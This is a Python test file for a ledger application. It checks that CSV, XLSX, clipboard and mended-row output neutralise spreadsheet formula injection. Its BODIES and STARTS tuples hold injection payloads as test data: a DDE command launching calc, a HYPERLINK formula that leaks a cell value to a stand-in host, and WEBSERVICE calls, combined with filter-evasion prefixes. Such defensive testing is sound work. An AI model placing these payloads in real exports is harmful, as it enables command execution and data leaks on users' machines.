"""RT19: nothing that leaves as a list, by the clipboard or as a file to mend is a formula; figures stay figures.

How single cells leave is in `tests/documents/test_spreadsheet.py` and `tests/db/importing/test_mending.py`.
"""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QGuiApplication

from db.importing.mending import neutral as mended
from desktop.pages.debtors import DebtorsPage
from documents.cell import Cell
from documents.spreadsheet import begin
from domain.money import Money
from tests.makers import FOUNDER, Claim, cny, make_office, take_ledger
from usecases.account import DescribeDebtor
from usecases.command import perform

BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x?leak="&A1,"click")',
    "SUM(1,2)",
    'WEBSERVICE("http://x")',
)
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\t=",
    "\r=",
    "\n=",
    "\r\n＝",
    "\u00a0=",
    "\u3000＋",
    "Co;=",
    "Co; ＠",
)
PAYLOADS = [start + body for start in STARTS for body in BODIES]
FORBIDDEN = tuple("=+-@＝＋－＠\t\r\n\0")
FIGURES: list[Cell] = [Money(-12_345, "CNY"), Decimal("-0.5"), -3, date(2026, 3, 2)]


def test_a_csv_holds_words_and_figures(tmp_path: Path) -> None:
    sheet = begin(tmp_path / "list.csv", "List", ["=Head", *"abcd"], [])
    sheet.add([[words, *FIGURES] for words in PAYLOADS])
    sheet.finish()
    sheet.settle()
    with (tmp_path / "list.csv").open(encoding="utf-8-sig", newline="") as stream:
        head, *rows = csv.reader(stream)
    assert head[0] == "'=Head"
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        assert not any(part.lstrip().startswith(FORBIDDEN) for part in row[0].split(";"))
        assert row[1:] == ["-123.45", "-0.5", "-3", "2026-03-02"]


def test_a_workbook_holds_no_formula_no_link_and_no_name(tmp_path: Path) -> None:
    sheet = begin(tmp_path / "list.xlsx", "=1+1", ["=Head"], [("=a", "=b")])
    sheet.add([[words, *FIGURES] for words in PAYLOADS])
    sheet.finish()
    sheet.settle()
    with zipfile.ZipFile(tmp_path / "list.xlsx") as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")}
    sheets = [content for name, content in parts.items() if "worksheets" in name]
    assert len(sheets) == 2
    for content in sheets:
        assert not re.search(r"<f[ >]|<hyperlink|<dataValidation", content)
    assert sheets[0].count('t="inlineStr"') + sheets[0].count('t="s"') == len(PAYLOADS) + 1
    assert "externalLink" not in "".join(parts)


def test_the_clipboard_holds_words(desk, show_page, tmp_path):
    office = make_office(tmp_path / "office")
    names = PAYLOADS[:: len(BODIES)]
    claim = Claim("A-1", cny("10.50"), date(2026, 2, 1), date(2026, 1, 1))
    taken = take_ledger(office, {f"D{at:03}": (claim,) for at in range(len(names))}, officer=FOUNDER)
    for account, words in zip(taken.accounts.values(), names, strict=True):
        perform(office, DescribeDebtor(account=account, name=words))
    page = show_page(DebtorsPage, office)
    page.view.selectAll()
    with desk.waitSignal(page.view.told):
        desk.keyClick(page.view, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    rows = [line.split("\t") for line in QGuiApplication.clipboard().text().split("\n")]
    assert len(rows) == len(names) + 1
    for row in rows:
        assert len(row) == len(rows[0])
        assert not any(cell.startswith(FORBIDDEN) for cell in row)
    assert sum("10.50" in row for row in rows) == len(names)


@pytest.mark.parametrize("words", PAYLOADS)
def test_rows_to_mend_hold_words(words: str) -> None:
    assert not mended(words).startswith(FORBIDDEN)
    assert not any(part.lstrip().startswith(FORBIDDEN) for part in mended(words).split(";")[1:])
